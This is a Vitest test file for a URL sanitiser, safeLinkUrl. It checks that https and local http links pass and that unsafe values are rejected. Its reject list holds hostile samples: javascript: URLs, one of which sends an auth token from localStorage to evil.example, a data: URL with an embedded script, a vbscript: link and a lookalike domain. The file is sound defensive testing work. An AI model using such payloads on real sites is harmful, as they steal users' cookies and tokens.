import { describe, expect, it } from 'vitest';
import { safeLinkUrl } from './safe-url';

describe('safeLinkUrl', () => {
  it('keeps https links and http links to the local machine', () => {
    expect(safeLinkUrl('https://example.com/terms')).toBe('https://example.com/terms');
    expect(safeLinkUrl(' https://app.example.com ')).toBe('https://app.example.com');
    expect(safeLinkUrl('http://localhost:8080/terms')).toBe('http://localhost:8080/terms');
    expect(safeLinkUrl('http://andina.localhost:5173')).toBe('http://andina.localhost:5173');
    expect(safeLinkUrl('http://127.0.0.1:8080')).toBe('http://127.0.0.1:8080');
  });

  it('refuses scripts, data, plain http on the internet, credentials and non-URLs', () => {
    for (const bad of [
      'javascript:alert(document.cookie)',
      'JavaScript:fetch("//evil.example?"+localStorage["auth-token"])',
      'data:text/html,<script>alert(1)</script>',
      'http://evil.example/terms',
      'http://localhost.evil.example/terms',
      'https://user:pass@example.com',
      'vbscript:msgbox',
      'app.example.com',
      '//evil.example',
      '',
      null,
      undefined,
    ])
      expect(safeLinkUrl(bad), String(bad)).toBeUndefined();
  });
});
